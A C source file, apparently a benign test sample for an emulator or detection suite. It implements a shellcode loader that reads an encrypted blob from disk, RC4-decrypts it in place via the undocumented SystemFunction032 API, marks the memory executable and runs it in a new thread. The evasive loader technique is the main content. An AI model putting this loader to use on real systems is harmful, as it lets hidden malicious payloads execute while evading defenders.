/*
 * loader.c - generality suite: file -> SystemFunction032 (RC4 in place) -> RX -> thread.
 * Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * As many modern shellcode loaders decrypt their payload: reads
 * C:\ProgramData\ChainreplayDemo\blob.bin into a new PAGE_READWRITE allocation, resolves
 * advapi32!SystemFunction032 with LoadLibraryA + GetProcAddress (advapi32 forwards it to
 * cryptsp), decrypts the buffer in place with it (RC4: USTRING data, USTRING key), makes the
 * allocation PAGE_EXECUTE_READ with VirtualProtect and runs it in a new thread. The stage writes
 * C:\Users\Public\lineage_sf032.txt.
 * Built with -DSF_DLL=... -DSF_NAME=... (../../sysfunc032-rc4-x86: SystemFunction033,
 * the same function under its other name).
 * Exit codes: 0 ok, 1 no marker, 2 file, 3 API, 4 memory, 5 thread, 6 decryption.
 */
#include "common.h"

#ifndef SF_DLL
#define SF_DLL "advapi32.dll"
#endif
#ifndef SF_NAME
#define SF_NAME "SystemFunction032"
#endif

struct ustring {
    DWORD Length;
    DWORD MaximumLength;
    PVOID Buffer;
};
typedef LONG (WINAPI *SystemFunction032_t)(struct ustring *data, const struct ustring *key);

void Entry(void)
{
    static struct sc_ctx ctx;
    static char key_bytes[] = "chainreplay-sf032-key";
    struct ustring data, key;
    SystemFunction032_t rc4;
    HANDLE f, thread;
    DWORD got = 0, old;
    unsigned char *mem;

    if (!marker_present())
        ExitProcess(1);
    f = CreateFileA("C:\\ProgramData\\ChainreplayDemo\\blob.bin", GENERIC_READ, FILE_SHARE_READ, 0, OPEN_EXISTING,
                    FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE)
        ExitProcess(2);
    mem = (unsigned char *)VirtualAlloc(0, 0x4000, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(4);
    if (!ReadFile(f, mem, 0x4000, &got, 0) || got == 0)
        ExitProcess(2);
    CloseHandle(f);
    rc4 = (SystemFunction032_t)(void *)GetProcAddress(LoadLibraryA(SF_DLL), SF_NAME);
    if (!rc4)
        ExitProcess(3);
    data.Length = data.MaximumLength = got;
    data.Buffer = mem;
    key.Length = key.MaximumLength = sizeof(key_bytes) - 1;
    key.Buffer = key_bytes;
    if (rc4(&data, &key) != 0)
        ExitProcess(6);
    if (!VirtualProtect(mem, got, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_sf032.txt", "decrypted with SystemFunction032\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)mem, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
